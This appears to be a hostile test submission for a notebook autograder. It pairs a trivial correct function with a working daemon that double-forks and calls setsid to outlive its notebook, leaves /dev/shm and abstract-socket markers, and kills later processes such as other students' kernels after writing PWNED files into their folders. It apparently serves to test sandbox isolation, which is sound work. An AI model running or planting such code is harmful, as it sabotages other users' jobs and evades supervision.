"""A correct f, and in the same cell a daemon meant to outlive the notebook: a double fork with
setsid (so no process group or session kill reaches it) that lives up to 60 s. It holds an
abstract Unix socket and a /dev/shm file (both named PWNED-lingers_after_its_notebook, a channel
a later notebook could use), and every half second it looks for processes that appeared after
it (the next kernels forked by the same zygote, other students' kernels): it writes a
PWNED-lingers_after_its_notebook file into each one's working folder (through
/proc/<pid>/cwd) and kills it. What must happen: the daemon dies when its notebook is done (or
never sees another kernel), so no PWNED- file appears anywhere, /dev/shm and the host's abstract
sockets hold no marker, every student graded after it keeps their score, and this submission
scores full marks.

Bounded like kills_other_processes: when it can see more than 60 processes it touches only
processes whose working folder is inside the course directory it found above its own folder
(none if it found none); it kills at most 20 processes and never pid 1."""

LOSES = []

# %% f
import os
import pathlib
import signal
import socket
import time


def _linger():
    mark = "PWNED" + "-lingers_after_its_notebook"
    here = pathlib.Path(os.getcwd()).resolve()
    root = next((d for d in (here, *here.parents) if (d / "nbgrader_config.py").is_file()
                 or (d / "gradebook.db").is_file()), None)
    if os.fork() != 0:
        return "started"
    try:  # the first child: a new session, then the daemon is its child
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        me = os.getpid()
        keep = []
        try:
            server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            server.bind("\0" + mark)
            server.listen(1)
            keep.append(server)
        except OSError:
            pass
        try:
            pathlib.Path("/dev/shm", mark).write_text(mark)
        except OSError:
            pass
        known = {int(p) for p in os.listdir("/proc") if p.isdigit()}
        killed, end = 0, time.monotonic() + 60
        while time.monotonic() < end and killed < 20:
            time.sleep(0.5)
            pids = {int(p) for p in os.listdir("/proc") if p.isdigit()}
            for pid in sorted(pids - known - {me, 1}):
                try:
                    cwd = os.readlink(f"/proc/{pid}/cwd")
                    ours = cwd.startswith(str(root)) if root else len(pids) <= 60
                    if not ours:
                        continue
                    pathlib.Path(f"/proc/{pid}/cwd", mark + ".txt").write_text(mark)
                    os.kill(pid, signal.SIGKILL)
                    killed += 1
                except OSError:
                    pass
            known |= pids
    finally:
        os._exit(0)


try:
    print(_linger())
except Exception as error:
    print("blocked:", type(error).__name__)


def f(x):
    return (x - 0.5) ** 2
